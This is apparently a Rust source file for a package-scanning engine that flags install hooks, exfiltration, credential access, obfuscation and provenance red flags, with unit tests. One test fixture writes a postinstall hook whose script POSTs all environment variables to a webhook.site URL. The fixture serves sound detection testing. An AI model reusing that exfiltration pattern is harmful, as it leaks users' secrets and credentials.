//! The phase engine: applies every applicable signature to every walked
//! file and produces an ordered, scored, deterministic `ScanResult`.
//!
//! Traversal runs on the calling thread; reading and pattern matching run
//! on a fixed-size worker pool. Workers append findings to a mutex-guarded
//! collector; the deterministic ordering (phase, severity descending, file,
//! line) is imposed once at the end, so worker scheduling never shows up in
//! the result.

pub mod scoring;

use std::collections::HashSet;
use std::fmt;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Instant;

use chrono::{DateTime, Utc};
use colored::Colorize;
use rayon::prelude::*;
use serde::{Deserialize, Serialize};

use crate::config::ScanOptions;
use crate::errors::{Result, SigilError};
use crate::signatures::{categories, Phase, Severity, SignatureStore};
use crate::walker::{self, FileEntry, IgnoreSet, WalkReport, FACT_OVERSIZED};

pub use scoring::PhaseSummary;

/// How the scanned bytes were acquired.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum TargetType {
    Directory,
    Git,
    Pip,
    Npm,
    Url,
    File,
}

impl fmt::Display for TargetType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            TargetType::Directory => write!(f, "directory"),
            TargetType::Git => write!(f, "git"),
            TargetType::Pip => write!(f, "pip"),
            TargetType::Npm => write!(f, "npm"),
            TargetType::Url => write!(f, "url"),
            TargetType::File => write!(f, "file"),
        }
    }
}

/// A single positive match of one signature against one file location.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Finding {
    pub phase: Phase,
    pub severity: Severity,
    pub weight: f64,
    pub rule: String,
    pub description: String,
    pub file: String,
    /// 1-based; absent for provenance findings, which have no location.
    pub line: Option<usize>,
    pub snippet: String,
}

/// Overall scan verdict, ordered from benign to malicious.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
pub enum Verdict {
    Clean,
    LowRisk,
    MediumRisk,
    HighRisk,
    Critical,
}

impl fmt::Display for Verdict {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Verdict::Clean => write!(f, "CLEAN"),
            Verdict::LowRisk => write!(f, "LOW RISK"),
            Verdict::MediumRisk => write!(f, "MEDIUM RISK"),
            Verdict::HighRisk => write!(f, "HIGH RISK"),
            Verdict::Critical => write!(f, "CRITICAL"),
        }
    }
}

/// The immutable result of one complete scan.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ScanResult {
    pub scan_id: String,
    /// Echo of the user input that named the target.
    pub target: String,
    pub target_type: TargetType,
    pub content_digest: String,
    pub files_scanned: usize,
    pub verdict: Verdict,
    pub score: f64,
    pub duration_ms: u64,
    pub created_at: DateTime<Utc>,
    pub signatures_version: String,
    /// Set when the wall-clock or file-count cap cut the scan short.
    pub truncated: bool,
    pub phases: std::collections::BTreeMap<String, PhaseSummary>,
    /// Ordered: phase, severity descending, file ascending, line ascending.
    pub findings: Vec<Finding>,
}

impl ScanResult {
    /// The fields two scans of identical input must agree on. Volatile
    /// envelope fields (scan id, timestamps, duration) are excluded.
    pub fn canonical(&self) -> serde_json::Value {
        serde_json::json!({
            "content_digest": self.content_digest,
            "files_scanned": self.files_scanned,
            "verdict": self.verdict,
            "score": self.score,
            "signatures_version": self.signatures_version,
            "truncated": self.truncated,
            "phases": self.phases,
            "findings": self.findings,
        })
    }
}

/// Cooperative cancellation handle, checked at file boundaries.
#[derive(Debug, Clone, Default)]
pub struct CancelFlag(Arc<AtomicBool>);

impl CancelFlag {
    pub fn new() -> CancelFlag {
        CancelFlag::default()
    }

    pub fn cancel(&self) {
        self.0.store(true, Ordering::SeqCst);
    }

    pub fn is_cancelled(&self) -> bool {
        self.0.load(Ordering::SeqCst)
    }
}

/// One scan engine instance. The signature store is shared read-only with
/// every worker; all mutable state is owned here.
pub struct ScanEngine<'a> {
    store: &'a SignatureStore,
    options: ScanOptions,
    cancel: CancelFlag,
}

const TEXTUAL_PHASES: [Phase; 5] = [
    Phase::InstallHooks,
    Phase::CodePatterns,
    Phase::NetworkExfil,
    Phase::Credentials,
    Phase::Obfuscation,
];

/// Dotfiles conventional enough that they are not provenance red flags.
const BENIGN_DOTFILES: &[&str] = &[
    ".gitignore",
    ".gitattributes",
    ".gitkeep",
    ".gitmodules",
    ".editorconfig",
    ".sigilignore",
    ".npmignore",
    ".dockerignore",
    ".prettierrc",
    ".eslintrc",
];

impl<'a> ScanEngine<'a> {
    pub fn new(store: &'a SignatureStore, options: ScanOptions) -> ScanEngine<'a> {
        ScanEngine {
            store,
            options,
            cancel: CancelFlag::new(),
        }
    }

    pub fn with_cancel(
        store: &'a SignatureStore,
        options: ScanOptions,
        cancel: CancelFlag,
    ) -> ScanEngine<'a> {
        ScanEngine {
            store,
            options,
            cancel,
        }
    }

    /// Scan a directory (or single file) on disk.
    ///
    /// Per-file I/O errors are warnings; a rule whose evaluation panics is
    /// disabled for the remainder of the scan. Exceeding the wall-clock cap
    /// yields a truncated result; operator cancellation aborts with
    /// [`SigilError::Interrupted`] and nothing is returned.
    pub fn scan_tree(
        &self,
        root: &std::path::Path,
        target: &str,
        target_type: TargetType,
        content_digest: &str,
    ) -> Result<ScanResult> {
        let start = Instant::now();
        let deadline = start + self.options.timeout;

        let (ignore, glob_warnings) = IgnoreSet::for_scan_root(root);
        for w in &glob_warnings {
            eprintln!("{} {}", "warning:".bold().yellow(), w);
        }

        let report = walker::walk(root, &self.options, &ignore);
        for w in &report.warnings {
            eprintln!("{} {}", "warning:".bold().yellow(), w);
        }

        let mut findings = self.provenance_findings(&report);

        let collector: Mutex<Vec<Finding>> = Mutex::new(Vec::new());
        let disabled_rules: Mutex<HashSet<String>> = Mutex::new(HashSet::new());
        let files_scanned = AtomicUsize::new(0);
        let deadline_hit = AtomicBool::new(false);

        let pool = rayon::ThreadPoolBuilder::new()
            .num_threads(self.options.concurrency.max(1))
            .build()
            .map_err(|e| SigilError::Config(format!("cannot build worker pool: {}", e)))?;

        pool.install(|| {
            report.files.par_iter().for_each(|entry| {
                if self.cancel.is_cancelled() {
                    return;
                }
                if Instant::now() >= deadline {
                    deadline_hit.store(true, Ordering::Relaxed);
                    return;
                }
                self.scan_file(entry, &collector, &disabled_rules, &files_scanned);
            });
        });

        if self.cancel.is_cancelled() {
            return Err(SigilError::Interrupted);
        }

        findings.extend(collector.into_inner().unwrap_or_default());
        sort_findings(&mut findings);

        let score = scoring::calculate_score(&findings);
        let verdict = scoring::determine_verdict(&findings, score);
        let phases = scoring::phase_rollups(&findings);

        Ok(ScanResult {
            scan_id: uuid::Uuid::new_v4().to_string(),
            target: target.to_string(),
            target_type,
            content_digest: content_digest.to_string(),
            files_scanned: files_scanned.load(Ordering::Relaxed),
            verdict,
            score,
            duration_ms: start.elapsed().as_millis() as u64,
            created_at: Utc::now(),
            signatures_version: self.store.version().to_string(),
            truncated: report.hit_file_cap || deadline_hit.load(Ordering::Relaxed),
            phases,
            findings,
        })
    }

    fn scan_file(
        &self,
        entry: &FileEntry,
        collector: &Mutex<Vec<Finding>>,
        disabled_rules: &Mutex<HashSet<String>>,
        files_scanned: &AtomicUsize,
    ) {
        let bytes = match std::fs::read(&entry.abs_path) {
            Ok(b) => b,
            Err(e) => {
                eprintln!(
                    "{} {}: {} (skipped)",
                    "warning:".bold().yellow(),
                    entry.rel_path,
                    e
                );
                return;
            }
        };
        files_scanned.fetch_add(1, Ordering::Relaxed);

        // Binary payloads bypass the textual phases entirely; they already
        // contributed to provenance through their path.
        if is_binary(&bytes) {
            return;
        }
        let text = String::from_utf8_lossy(&bytes);
        let manifest = manifest_classes(&entry.rel_path);

        let mut local = Vec::new();
        for phase in TEXTUAL_PHASES {
            if phase == Phase::InstallHooks && manifest.is_empty() {
                continue;
            }
            for sig in self.store.for_phase(phase) {
                if phase == Phase::InstallHooks {
                    if let Some(cat) = sig.category.as_deref() {
                        if !manifest.iter().any(|m| *m == cat) {
                            continue;
                        }
                    }
                } else if !sig.accepts_language(entry.language) {
                    continue;
                }
                if disabled_rules.lock().map(|d| d.contains(&sig.id)).unwrap_or(false) {
                    continue;
                }

                // Validated patterns should never panic at match time; if
                // one does, it is retired for the rest of the scan.
                let spans = catch_unwind(AssertUnwindSafe(|| {
                    sig.pattern
                        .find_iter(&text)
                        .map(|m| (m.start(), m.end()))
                        .collect::<Vec<_>>()
                }));
                let spans = match spans {
                    Ok(s) => s,
                    Err(_) => {
                        eprintln!(
                            "{} rule {} failed at match time; disabled for this scan",
                            "warning:".bold().yellow(),
                            sig.id
                        );
                        if let Ok(mut d) = disabled_rules.lock() {
                            d.insert(sig.id.clone());
                        }
                        continue;
                    }
                };

                for (mstart, mend) in spans {
                    let line = text[..mstart].bytes().filter(|b| *b == b'\n').count() + 1;
                    local.push(Finding {
                        phase,
                        severity: sig.severity,
                        weight: sig.weight,
                        rule: sig.id.clone(),
                        description: sig.description.clone(),
                        file: entry.rel_path.clone(),
                        line: Some(line),
                        snippet: extract_snippet(&text, mstart, mend, self.options.snippet_len),
                    });
                }
            }
        }

        if !local.is_empty() {
            if let Ok(mut all) = collector.lock() {
                all.extend(local);
            }
        }
    }

    /// Provenance operates on filesystem facts, not contents, and emits at
    /// most one finding per rule per scan.
    fn provenance_findings(&self, report: &WalkReport) -> Vec<Finding> {
        let mut out = Vec::new();

        for sig in self.store.for_phase(Phase::Provenance) {
            let hit = match sig.category.as_deref() {
                Some(categories::FACT) => report
                    .facts
                    .iter()
                    .find(|tag| sig.pattern.is_match(tag))
                    .map(|tag| {
                        let file = if *tag == FACT_OVERSIZED {
                            report.oversized.first().cloned().unwrap_or_default()
                        } else {
                            ".".to_string()
                        };
                        (file, (*tag).to_string())
                    }),
                // Path rules: files and capped files alike are candidates.
                _ => report
                    .files
                    .iter()
                    .map(|f| f.rel_path.as_str())
                    .chain(report.oversized.iter().map(String::as_str))
                    .filter(|rel| {
                        let name = rel.rsplit('/').next().unwrap_or(rel);
                        !BENIGN_DOTFILES.contains(&name)
                    })
                    .find(|rel| sig.pattern.is_match(rel))
                    .map(|rel| (rel.to_string(), rel.to_string())),
            };

            if let Some((file, snippet)) = hit {
                out.push(Finding {
                    phase: Phase::Provenance,
                    severity: sig.severity,
                    weight: sig.weight,
                    rule: sig.id.clone(),
                    description: sig.description.clone(),
                    file,
                    line: None,
                    snippet,
                });
            }
        }

        out
    }
}

/// Canonical result ordering: phase, severity descending, file, line.
pub fn sort_findings(findings: &mut [Finding]) {
    findings.sort_by(|a, b| {
        a.phase
            .cmp(&b.phase)
            .then(b.severity.cmp(&a.severity))
            .then(a.file.cmp(&b.file))
            .then(a.line.cmp(&b.line))
            .then(a.rule.cmp(&b.rule))
    });
}

/// NUL byte in the leading window marks a file as binary.
fn is_binary(bytes: &[u8]) -> bool {
    let window = &bytes[..bytes.len().min(8192)];
    window.contains(&0)
}

/// Manifest families a path belongs to, gating install-hook rules.
fn manifest_classes(rel_path: &str) -> Vec<&'static str> {
    let name = rel_path.rsplit('/').next().unwrap_or(rel_path);
    let mut classes = Vec::new();

    match name {
        "setup.py" | "setup.cfg" | "pyproject.toml" => classes.push(categories::PYTHON_MANIFEST),
        "package.json" => classes.push(categories::NODE_MANIFEST),
        "Makefile" | "makefile" | "GNUmakefile" => classes.push(categories::MAKE_MANIFEST),
        ".gitlab-ci.yml" | "azure-pipelines.yml" => classes.push(categories::CI_MANIFEST),
        "mcp.json" | ".mcp.json" | "mcp_config.json" | "claude_desktop_config.json" => {
            classes.push(categories::MCP_MANIFEST)
        }
        _ => {}
    }
    if name.ends_with(".mk") {
        classes.push(categories::MAKE_MANIFEST);
    }
    if rel_path.starts_with(".github/workflows/")
        && (name.ends_with(".yml") || name.ends_with(".yaml"))
    {
        classes.push(categories::CI_MANIFEST);
    }

    classes
}

/// Snippet of up to `max` characters centered on the match, control
/// characters stripped.
fn extract_snippet(text: &str, mstart: usize, mend: usize, max: usize) -> String {
    let match_len = mend - mstart;
    let pad = max.saturating_sub(match_len) / 2;

    let mut start = mstart.saturating_sub(pad);
    while start > 0 && !text.is_char_boundary(start) {
        start -= 1;
    }
    let mut end = (mend + pad).min(text.len());
    while end < text.len() && !text.is_char_boundary(end) {
        end += 1;
    }

    let snippet: String = text[start..end]
        .chars()
        .filter(|c| !c.is_control())
        .take(max)
        .collect();
    snippet.trim().to_string()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::signatures::SignatureStore;
    use std::fs;
    use std::path::Path;

    fn write(root: &Path, rel: &str, contents: &str) {
        let path = root.join(rel);
        if let Some(parent) = path.parent() {
            fs::create_dir_all(parent).unwrap();
        }
        fs::write(path, contents).unwrap();
    }

    fn scan(root: &Path) -> ScanResult {
        let store = SignatureStore::load_builtin().unwrap();
        let engine = ScanEngine::new(&store, ScanOptions::default());
        engine
            .scan_tree(root, "fixture", TargetType::Directory, "digest")
            .unwrap()
    }

    #[test]
    fn clean_tree_is_clean() {
        let tmp = tempfile::tempdir().unwrap();
        write(tmp.path(), "hello.py", "print(\"hello\")\n");
        let result = scan(tmp.path());
        assert_eq!(result.files_scanned, 1);
        assert!(result.findings.is_empty(), "{:?}", result.findings);
        assert_eq!(result.score, 0.0);
        assert_eq!(result.verdict, Verdict::Clean);
        assert!(!result.truncated);
    }

    #[test]
    fn empty_tree_is_clean_with_zero_files() {
        let tmp = tempfile::tempdir().unwrap();
        let result = scan(tmp.path());
        assert_eq!(result.files_scanned, 0);
        assert!(result.findings.is_empty());
        assert_eq!(result.verdict, Verdict::Clean);
    }

    #[test]
    fn postinstall_package_is_critical() {
        let tmp = tempfile::tempdir().unwrap();
        write(
            tmp.path(),
            "package.json",
            r#"{ "name": "x", "scripts": { "postinstall": "node install.js" } }"#,
        );
        write(
            tmp.path(),
            "install.js",
            concat!(
                "const cp = require('child_process');\n",
                "fetch(`https://webhook.site/abc`, { method: 'POST',\n",
                "  body: JSON.stringify(process.env) });\n",
            ),
        );
        write(
            tmp.path(),
            "lib/utils.js",
            "const p = atob('aGVsbG8gd29ybGQgdGhpcyBpcyBhIGxvbmcgcGF5bG9hZCBzdHJpbmc=');\n",
        );

        let result = scan(tmp.path());
        let phases: std::collections::HashSet<Phase> =
            result.findings.iter().map(|f| f.phase).collect();
        for phase in [
            Phase::InstallHooks,
            Phase::CodePatterns,
            Phase::NetworkExfil,
            Phase::Credentials,
            Phase::Obfuscation,
        ] {
            assert!(phases.contains(&phase), "missing {phase}");
        }
        assert!(result.score >= 50.0, "score was {}", result.score);
        assert_eq!(result.verdict, Verdict::Critical);
    }

    #[test]
    fn env_read_without_exfil_is_low_risk() {
        let tmp = tempfile::tempdir().unwrap();
        write(
            tmp.path(),
            "settings.py",
            "import os\nkey = os.environ.get(\"API_KEY\")\n",
        );
        let result = scan(tmp.path());
        assert_eq!(result.findings.len(), 1, "{:?}", result.findings);
        assert_eq!(result.findings[0].rule, "CRED-001");
        assert_eq!(result.findings[0].severity, Severity::Medium);
        assert_eq!(result.findings[0].line, Some(2));
        assert!(result.score >= 1.0 && result.score <= 9.0);
        assert_eq!(result.verdict, Verdict::LowRisk);
    }

    #[test]
    fn short_base64_is_below_threshold() {
        let tmp = tempfile::tempdir().unwrap();
        write(tmp.path(), "data.js", "const k = 'QUJDREVGR0hJSktMTU5P';\n");
        let result = scan(tmp.path());
        assert!(result.findings.is_empty(), "{:?}", result.findings);
        assert_eq!(result.verdict, Verdict::Clean);
    }

    #[test]
    fn install_rules_do_not_fire_outside_manifests() {
        let tmp = tempfile::tempdir().unwrap();
        // The same token in a plain source file must not trip INSTALL-003.
        write(tmp.path(), "docs.js", "// \"postinstall\": example\n");
        let result = scan(tmp.path());
        assert!(result
            .findings
            .iter()
            .all(|f| f.phase != Phase::InstallHooks));
    }

    #[test]
    fn binary_files_bypass_textual_phases() {
        let tmp = tempfile::tempdir().unwrap();
        let mut payload = b"eval(".to_vec();
        payload.push(0);
        payload.extend_from_slice(b"atob(");
        fs::write(tmp.path().join("blob.dat"), payload).unwrap();

        let result = scan(tmp.path());
        assert_eq!(result.files_scanned, 1);
        assert!(result
            .findings
            .iter()
            .all(|f| f.phase == Phase::Provenance));
    }

    #[test]
    fn provenance_emits_at_most_one_finding_per_rule() {
        let tmp = tempfile::tempdir().unwrap();
        write(tmp.path(), ".hidden_one", "x");
        write(tmp.path(), ".hidden_two", "x");
        let result = scan(tmp.path());
        let hidden: Vec<_> = result
            .findings
            .iter()
            .filter(|f| f.rule == "PROV-001")
            .collect();
        assert_eq!(hidden.len(), 1);
        assert_eq!(hidden[0].line, None);
    }

    #[test]
    fn findings_are_deterministically_ordered() {
        let tmp = tempfile::tempdir().unwrap();
        write(tmp.path(), "b.py", "import pickle\npickle.loads(data)\n");
        write(tmp.path(), "a.py", "eval(input())\nexec(code)\n");
        write(tmp.path(), "exfil.py", "import requests\nrequests.post(url)\n");

        let first = scan(tmp.path());
        let second = scan(tmp.path());
        assert_eq!(first.canonical(), second.canonical());

        // Phase groups ascend; severity descends within a phase.
        let keys: Vec<_> = first
            .findings
            .iter()
            .map(|f| (f.phase, std::cmp::Reverse(f.severity)))
            .collect();
        let mut sorted = keys.clone();
        sorted.sort();
        assert_eq!(keys, sorted);
    }

    #[test]
    fn cancellation_discards_the_result() {
        let tmp = tempfile::tempdir().unwrap();
        write(tmp.path(), "a.py", "print('x')\n");
        let store = SignatureStore::load_builtin().unwrap();
        let cancel = CancelFlag::new();
        cancel.cancel();
        let engine = ScanEngine::with_cancel(&store, ScanOptions::default(), cancel);
        let err = engine
            .scan_tree(tmp.path(), "fixture", TargetType::Directory, "digest")
            .unwrap_err();
        assert!(matches!(err, SigilError::Interrupted));
    }

    #[test]
    fn snippet_is_capped_and_stripped() {
        let text = format!("prefix eval({}) suffix", "A".repeat(500));
        let snippet = extract_snippet(&text, 7, 12, 240);
        assert!(snippet.len() <= 240);
        assert!(snippet.contains("eval("));

        let tabby = "\teval(x)\r\n";
        let s = extract_snippet(tabby, 1, 6, 240);
        assert!(!s.contains('\t') && !s.contains('\n'));
    }
}
